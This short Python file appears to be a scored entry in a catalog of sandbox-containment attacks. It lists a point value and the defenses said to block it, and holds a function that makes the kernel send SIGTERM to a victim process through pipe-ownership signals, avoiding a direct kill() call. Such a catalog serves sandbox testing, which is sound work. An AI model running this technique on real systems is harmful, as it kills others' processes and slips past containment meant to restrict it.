"""The kernel itself signals whom I name as the owner of a pipe, as soon as there is something to read."""

import fcntl
import os

EARNS = "10"
STOPPED_BY = ("Landlock", "namespaces", "own user", "seccomp")
EVIDENCE = "harmed"


def attack():
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, VICTIM_PID)
    fcntl.fcntl(read, 10, 15)  # F_SETSIG: SIGTERM in the place of SIGIO
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(write, b"x")
